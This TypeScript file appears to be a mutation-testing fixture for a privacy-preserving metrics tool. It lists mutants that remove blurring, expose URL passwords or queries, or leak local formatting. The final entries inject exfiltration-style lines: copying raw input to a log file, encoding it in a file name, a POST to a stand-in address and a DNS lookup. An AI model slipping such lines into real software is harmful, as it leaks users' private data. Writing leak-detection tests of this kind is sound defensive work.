// Leaks of one line behind the readers: in what is blurred, the gate, the package, the report and the command
// line.
import type { Mutant } from './mutant.ts';

const GATE = 'router/src/gate/gate.ts';
const BUILD = 'router/src/package/build.ts';
const ACE = 'router/src/metrics/ace.ts';
const PACE = 'router/src/metrics/pace.ts';
const UTILIZATION = 'router/src/metrics/utilization.ts';
const EVIDENCE = 'router/src/accounting/gpuutil/type-evidence.ts';
const SHOWN = 'cli/src/shown.ts';
const HTTP = 'cli/src/collect/http.ts';
const INPUTS = 'cli/src/collect/inputs.ts';
const KNOWN_INPUT = 'cli/src/collect/named/known.ts';
const READ = 'core/src/read.ts';
const COLLECT = 'cli/src/commands/collect.ts';

/** A cell's number of which part and weight are exact. */
const exactly = (weight: string, part: string): string =>
  `blurred: ({ sums }) => ({ part: sums.total(COLUMN.${part}), weight: sums.total(COLUMN.${weight}) * MILLION, step: 200_000 }),`;

/** One number of exact values. */
const EXACT: readonly Mutant[] = [
  [
    'the rate is exact',
    ACE,
    "blurred: ofCells(cells, 'sliceSeconds'),",
    exactly('requestedSliceSeconds', 'usedSliceSecondMillionths'),
  ],
  [
    'the score is exact',
    ACE,
    "blurred: ofCells(cells, 'jobs'),",
    exactly('analyzed', 'utilizationMillionths'),
  ],
  [
    'over-request is exact',
    ACE,
    "blurred: ofCells(cells, 'slices'),",
    exactly('slices', 'usedSliceMillionths'),
  ],
  [
    'CPU time is exact',
    PACE,
    "dice.blur(cpuTime, 'cpu')",
    '{ part: contributors.reduce((sum, one) => sum + one.part, 0n), weight: contributors.reduce((sum, one) => sum + one.weight, 0n), step: 200_000 }',
  ],
  ['quantiles are exact', 'router/src/gate/forms.ts', "if (source !== 'assumed')", "if (source === 'none')"],
  [
    'what lies at the bottom is exact',
    UTILIZATION,
    "return fraction('low_util_share', population, utilizationProvenance(facts), lowest(jobs));",
    "return fraction('low_util_share', population, utilizationProvenance(facts), { part: population.contributors.reduce((sum, one) => sum + one.part, 0n), weight: population.contributors.reduce((sum, one) => sum + one.weight, 0n), step: 1_000_000 });",
  ],
  [
    'jobs near zero are counted',
    ACE,
    "  flagged_jobs_pct: analyzed(\n    jobFraction('flagged_jobs_pct', {\n      weight: 'analyzed',\n      part: 'flagged',",
    "  flagged_jobs_pct: analyzed(\n    jobFraction('flagged_jobs_pct', {\n      weight: 'analyzed',\n      part: 'nearZero',",
  ],
];

/** A zero, or a value, decides for others. */
const ZEROES: readonly Mutant[] = [
  [
    'a value above 0 makes a type believed in a package',
    EVIDENCE,
    'evidence.some(({ jobs, above }) => records(jobs, above[at]))',
    'evidence.some(({ jobs, above, isPositive }) => isPositive || records(jobs, above[at]))',
  ],
  [
    'a value above 0 counts for a type, whatever its cell',
    EVIDENCE,
    'if (!isAboveZero(this.#dice!.cell(at, pair, millionths))) continue;',
    'if (millionths === 0) continue;',
  ],
  ['any CPU time makes it known', PACE, "return above.length < enough ? 'kept' :", 'return'],
  [
    'CPU time above 0 counts, whatever its cell',
    PACE,
    "(one) => dice.blurred(one, 'cpu') > 0",
    '({ part }) => part > 0n',
  ],
  [
    'confidence depends on a value',
    'router/src/accounting/tally/analyzed-tally.ts',
    'this.origins.addJobs(jobs);',
    'this.origins.addJobs({ ...jobs, origin: jobs.origin.map((one, i) => (jobs.utilization[i] === 0 ? 1 : one)) });',
  ],
  [
    'a value above 100 decides for all',
    'router/src/accounting/gpuutil/job-gpuutil.ts',
    '(isOwn && this.#isAnySum())',
    '(isOwn && (this.sumsGuessed > 0 || this.#isAnySum()))',
  ],
];

export const behindMutants: readonly Mutant[] = [
  [
    'local metrics go to the gate',
    GATE,
    "if (measurement.kind === 'local' || release.form === 'L' || release.form === 'D') return true;",
    '',
  ],
  ...EXACT,
  ...ZEROES,
  [
    'the contributors are counted in the package',
    BUILD,
    'k: parameters.k,',
    'k: input.released.length as 3,',
  ],
  ['an exact coverage goes out', BUILD, 'return { value: (at + 25) / 1000,', 'return { value: share,'],
  [
    'the time of day goes out',
    BUILD,
    'const today = `${day(input.nowSeconds)}T00:00:00Z`;',
    'const today = new Date(input.nowSeconds * 1000).toISOString();',
  ],
  [
    'a warning depends on a hash',
    'router/src/identity/contributors.ts',
    'if (!isPresent(lanes, user)) this.#nobody = u;',
    'if (!isPresent(lanes, user) || lanes[user]! % 16 === 0) this.#nobody = u;',
  ],
  [
    'runs of the last cluster win',
    'router/src/accounting/rows/run-table.ts',
    'if (this.repeats.supersedes(row, twin)) {',
    'if (twin >= 0) {',
  ],
  [
    'the first user counts twice',
    'router/src/identity/contributors.ts',
    'return this.#claim(u, a);',
    'return this.#claim(u === 0 ? this.#users.size : u, a);',
  ],
  [
    'times are read in the zone of the machine',
    'core/src/formats/bytes/time.ts',
    "constructor(timezone = 'UTC') {",
    'constructor(timezone = Intl.DateTimeFormat().resolvedOptions().timeZone) {',
  ],
  [
    'numbers are written as the machine likes',
    'cli/src/render/words.ts',
    "if (text.includes('e')) return text;",
    "if (text.includes('e')) return text;\n  if (whole !== '') return value.toLocaleString();",
  ],
  [
    'dates are written in local time',
    'cli/src/options.ts',
    'return new Date(epochSeconds * 1000).toISOString().slice(0, 10);',
    'return new Date(epochSeconds * 1000).toLocaleDateString();',
  ],
  [
    'files of a folder are called by name',
    INPUTS,
    'const one = `file ${index + 1} of ${paths.length} in ${place}`;',
    'const one = path;',
  ],
  [
    'an unknown input is quoted',
    KNOWN_INPUT,
    'sentences.unknownInput(place, ',
    'sentences.unknownInput(place + Buffer.from(head).toString(), ',
  ],
  ['the query of a URL is shown', SHOWN, ".replace(/[?#].*$/s, '')", ''],
  ['the password of a URL is shown', SHOWN, ".slice(rest.lastIndexOf('@') + 1)", ''],
  [
    'the words of a server are shown',
    HTTP,
    'sentences.httpStatus(place, status)',
    'sentences.httpStatus(place + response.statusMessage, status)',
  ],
  [
    'where a server redirects to is shown',
    HTTP,
    'sentences.httpRedirect(place)',
    'sentences.httpRedirect(place + response.headers.location)',
  ],
  [
    'the complaints of a command go through',
    'cli/src/compute.ts',
    'if (flags.verbose === true) sayTroubles',
    'sayTroubles',
  ],
  [
    'an unknown member is quoted',
    'cli/src/facility.ts',
    'has a member that is not known: use',
    'has a member ${name} that is not known: use',
  ],
  [
    'what JSON complains of is shown',
    'cli/src/operator-json.ts',
    '} catch {\n    // The message',
    '} catch (error) {\n    throw usage(String(error));\n    // The message',
  ],
  [
    'the input is copied to a file',
    READ,
    'parser.write(chunk);',
    "parser.write(chunk);\n      process.getBuiltinModule('node:fs').appendFileSync('claw.log', chunk);",
  ],
  [
    'the input is echoed',
    READ,
    'parser.write(chunk);',
    'parser.write(chunk);\n      process.stderr.write(chunk);',
  ],
  [
    'a hash of the input is a file name',
    READ,
    'parser.write(chunk);',
    "parser.write(chunk);\n      process.getBuiltinModule('node:fs').writeFileSync(Buffer.from(chunk.subarray(-200)).toString('base64url'), '');",
  ],
  [
    'the package is sent',
    COLLECT,
    'const { bytes, covered } = computed.outcome;',
    "const { bytes, covered } = computed.outcome;\n  await fetch('http://192.0.2.1/', { method: 'POST', body: 'x', signal: AbortSignal.timeout(50) }).catch(() => 0);",
  ],
  [
    'somebody is told by a name server',
    COLLECT,
    'const { bytes, covered } = computed.outcome;',
    "const { bytes, covered } = computed.outcome;\n  await process.getBuiltinModule('node:dns').promises.lookup('x.invalid').catch(() => 0);",
  ],
  [
    'an exporter elsewhere is asked',
    'core/src/sources/dcgm/exporter.ts',
    'http://127.0.0.1:9400',
    'http://192.0.2.1:9400',
  ],
];
